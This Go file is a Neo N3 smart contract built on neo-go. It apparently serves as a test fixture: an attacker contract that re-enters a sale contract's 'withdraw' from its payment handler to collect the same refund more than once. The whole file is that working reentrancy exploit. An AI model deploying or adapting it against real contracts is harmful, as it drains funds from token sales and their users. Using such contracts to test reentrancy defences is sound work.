package greedyrecv

import (
	"github.com/nspcc-dev/neo-go/pkg/interop"
	"github.com/nspcc-dev/neo-go/pkg/interop/contract"
	"github.com/nspcc-dev/neo-go/pkg/interop/native/gas"
	"github.com/nspcc-dev/neo-go/pkg/interop/runtime"
	"github.com/nspcc-dev/neo-go/pkg/interop/storage"
)

const targetKey = "target"

// Buy spends this contract's own GAS on tokens of the sale contract.
func Buy(token interop.Hash160, amount int) {
	self := runtime.GetExecutingScriptHash()
	if !gas.Transfer(self, token, amount, nil) {
		panic("gas transfer failed")
	}
}

// Arm makes every subsequent GAS receive attempt a reentrant withdraw
// against the given sale contract.
func Arm(token interop.Hash160) {
	storage.Put(storage.GetContext(), targetKey, token)
}

func Disarm() {
	storage.Delete(storage.GetContext(), targetKey)
}

// Collect pulls this contract's pending refund from the sale contract.
func Collect(token interop.Hash160) {
	contract.Call(token, "withdraw", contract.All, runtime.GetExecutingScriptHash())
}

func OnNEP17Payment(from interop.Hash160, amount int, data interface{}) {
	target := storage.Get(storage.GetContext(), targetKey)
	if target == nil {
		return
	}

	// GAS is coming back from the sale contract: try to pull the refund
	// once more before the first withdraw finishes.
	contract.Call(target.(interop.Hash160), "withdraw", contract.All,
		runtime.GetExecutingScriptHash())
}
